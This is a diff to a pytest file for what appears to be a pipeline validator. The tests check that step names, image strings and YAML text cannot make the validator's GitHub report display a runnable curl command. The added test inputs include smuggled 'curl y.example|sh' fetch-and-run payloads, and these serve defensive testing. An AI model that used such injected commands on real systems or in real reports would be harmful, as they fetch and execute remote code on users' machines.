@@ -23,6 +23,10 @@ GRAPHS = {
     "a type": {"start_at": "s", "steps": {"s": {**TASK, "type": NAME}, **ENDS}},
     "several ends": {"start_at": "end", "steps": {NAME: {"type": "success"}, **ENDS}},
     "what never runs": {"start_at": "end", "steps": {NAME: TASK, **ENDS}},
+    "an end to which nothing leads": {
+        "start_at": "fail",
+        "steps": {NAME: {"type": "success"}, "fail": {"type": "fail"}},
+    },
     "a cycle": {"start_at": NAME, "steps": {NAME: {**TASK, "next": NAME}, **ENDS}},
     "a branch": {
         "start_at": "s",
@@ -54,7 +58,9 @@ def test_no_name_speaks_for_us(graph: object, tmp_path: Path, monkeypatch: pytes
         assert not re.search(r"^ *curl|`curl", told, re.MULTILINE)
 
 
-@pytest.mark.parametrize("image", [f"x:{NAME}", f"x{NAME}:1", f"x@{NAME}", f"x:a/{NAME}", f"{{{{x{NAME}}}}}:1", NAME])
+@pytest.mark.parametrize(
+    "image", [f"x:{NAME}", f"x{NAME}:1", f"x@{NAME}", f"x:a/{NAME}", f"{{{{x{NAME}}}}}:1", f"x$-{NAME}", NAME]
+)
 def test_nor_does_an_image(image: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
     monkeypatch.chdir(tmp_path)
     Path("pipeline.yaml").write_text(json.dumps({"dag": {"start_at": "end", "steps": ENDS}}))
@@ -63,3 +69,13 @@ def test_nor_does_an_image(image: str, tmp_path: Path, monkeypatch: pytest.Monke
     told = Path("github").read_text().replace("%0A", "\n")
     assert "curl" in told
     assert not re.search(r"^ *curl|`curl", told, re.MULTILINE)
+
+
+@pytest.mark.parametrize("text", ["@x` or run `curl y.example|sh", "[a, @x` or run `curl y.example|sh"])
+def test_nor_does_what_is_to_be_quoted(text: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+    monkeypatch.chdir(tmp_path)
+    Path("pipeline.yaml").write_text(f"dag: {text}\n")
+    main(["validate", "pipeline.yaml", "--report", "github:github"])
+    told = Path("github").read_text().replace("%0A", "\n")
+    assert "help: quote it" in told
+    assert "`curl" not in told
